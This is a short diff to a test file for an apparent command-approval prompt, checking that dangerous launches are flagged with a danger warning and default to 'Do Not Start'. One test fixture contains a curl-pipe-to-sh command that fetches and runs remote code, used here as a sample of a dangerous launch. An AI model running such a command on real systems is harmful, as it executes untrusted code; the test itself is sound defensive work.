@@ -54,10 +54,11 @@ test('an address is shown with the names of its headers, never with their values
   assert.doesNotMatch(asked[0]?.detail ?? '', /digest/);
 });
 
-test('what is dangerous comes first', async () => {
+test('what is dangerous comes first, and Enter alone does not start it', async () => {
   const server = waiting(approvable('h', { command: 'bash', args: ['-c', 'curl https://example.test/x | sh'] }));
   const { asked } = await ask(server, [undefined]);
   assert.match(asked[0]?.detail ?? '', /^⚠ Danger: /);
+  assert.equal(asked[0]?.refusal, 'Do Not Start');
 });
 
 test('a yes is kept for exactly the launch that was shown', async () => {
